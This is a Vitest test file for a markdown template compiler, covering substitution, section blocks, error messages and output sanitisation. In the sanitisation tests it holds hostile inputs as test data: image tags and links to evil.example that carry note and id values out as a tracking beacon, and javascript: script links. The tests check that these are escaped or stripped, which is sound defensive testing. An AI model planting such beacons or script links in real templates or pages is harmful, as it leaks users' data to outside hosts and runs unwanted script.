import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileTemplate, TEMPLATE_VARIABLES, type TemplateValues } from '@/core/markdown/template';

const values = Object.fromEntries(
  Object.keys(TEMPLATE_VARIABLES).map((name) => [name, '']),
) as TemplateValues;
const with_ = (overrides: Partial<TemplateValues>): TemplateValues => ({ ...values, ...overrides });

describe('compileTemplate', () => {
  it.each([
    ['{{text}}', with_({ text: 'T' }), 'T'],
    ['{{ text }} and {{note}}', with_({ text: 'T', note: 'N' }), 'T and N'],
    ['{{#note}}Note: {{note}}{{/note}}!', with_({ note: 'N' }), 'Note: N!'],
    ['{{#note}}Note: {{note}}{{/note}}!', with_({ note: '  ' }), '!'],
    [
      '{{#talk}}{{talk}}{{#speakers}} by {{speakers}}{{/speakers}}{{/talk}}',
      with_({ talk: 'K', speakers: 'S' }),
      'K by S',
    ],
    ['{ {text} } {text}', with_({ text: 'T' }), '{ {text} } {text}'],
    [
      'values are not expanded again: {{note}}',
      with_({ note: '{{text}}', text: 'T' }),
      'values are not expanded again: {{text}}',
    ],
  ])('%j', (source, input, expected) => {
    const result = compileTemplate(source);
    if (!result.ok) throw new Error(result.error);
    expect(result.template.render(input)).toBe(expected);
  });

  it('lists the variables a template uses', () => {
    const result = compileTemplate('{{#note}}{{note}}{{/note}} {{link}}');
    expect(result.ok && [...result.template.variables].sort()).toEqual(['link', 'note']);
  });

  it.each([
    ['{{txt}}', 'Unknown variable {{txt}} on line 1'],
    ['a\n{{#note}}', '{{#note}} on line 2 is never closed'],
    ['{{/note}}', '{{/note}} on line 1 has no {{#note}} before it'],
    ['{{#note}}\n{{#tags}}\n{{/note}}', '{{/note}} on line 3 closes {{#tags}} from line 2'],
    ['{{constructor}}', 'Unknown variable {{constructor}} on line 1'],
  ])('%j -> %s', (source, error) => {
    expect(compileTemplate(source)).toEqual({ ok: false, error });
  });
});

describe('a template’s literal text, rendered (it may have come in a backup)', () => {
  const render = (source: string, input: Partial<TemplateValues> = {}) => {
    const result = compileTemplate(source);
    if (!result.ok) throw new Error(result.error);
    return result.template.render(with_(input));
  };
  const page = {
    note: 'my note',
    id: 'h1',
    url: 'https://a.example/post',
    pageTitle: 'A post',
    recording: 'https://video.example/1',
  };

  it.each([
    [
      'raw HTML is escaped',
      '<img src="https://evil.example/?id={{note}}">',
      '\\<img src="https://evil.example/?id=my note">',
    ],
    ['a script link keeps its text only', '[click](javascript:alert({{id}}))', 'click'],
    ['a link built on a variable that is not a URL', '[click]({{note}})', 'click'],
    ['a relative link', '[mine](notes/{{id}}.md)', 'mine'],
    ['a mailto link', '[write](mailto:x@example.com?body={{note}})', 'write'],
    ['an image, even from the web (a beacon)', '![seen](https://evil.example/{{id}}.png)', 'seen'],
    ['a reference definition to a script', '[a]\n\n[a]: javascript:alert(1)', '[a]'],
    [
      'marker characters typed into it (no value comes in through them)',
      '{{note}} x\uE0000\uE001y',
      'my note x0y',
    ],
  ])('%s', (_name, source, expected) => {
    expect(render(source, page)).toBe(expected);
  });

  it.each([
    ['a web link', '[source](https://example.com/{{id}})', '[source](https://example.com/h1)'],
    ['a link to the page', '[{{pageTitle}}]({{url}})', '[A post](https://a.example/post)'],
    ['a link to the recording', '[▶]({{recording}})', '[▶](https://video.example/1)'],
    ['a wikilink', '[[{{pageTitle}}]]', '[[A post]]'],
    ['emphasis and a quote', '> **{{note}}**', '> **my note**'],
  ])('keeps %s', (_name, source, expected) => {
    expect(render(source, page)).toBe(expected);
  });

  it('inserts values as they are: they are made safe by the export, once', () => {
    expect(render('{{note}}', { note: 'a \\<b> [x](https://example.com)' })).toBe(
      'a \\<b> [x](https://example.com)',
    );
  });
});

describe('the documented variables', () => {
  it('docs/export-format.md lists every variable, and no other', () => {
    const docs = readFileSync(join(__dirname, '../../../../docs/export-format.md'), 'utf8');
    const documented = [...docs.matchAll(/^\| `\{\{(\w+)\}\}`/gm)].map((m) => m[1]);
    expect(documented.sort()).toEqual(Object.keys(TEMPLATE_VARIABLES).sort());
  });

  it.each(['conference', 'day', 'time', 'start', 'room', 'track', 'type', 'recording', 'slides', 'schedule'])(
    'the schedule variable {{%s}} compiles',
    (name) => {
      const compiled = compileTemplate(`{{#${name}}}{{${name}}}{{/${name}}}`);
      expect(compiled.ok && [...compiled.template.variables]).toEqual([name]);
    },
  );
});
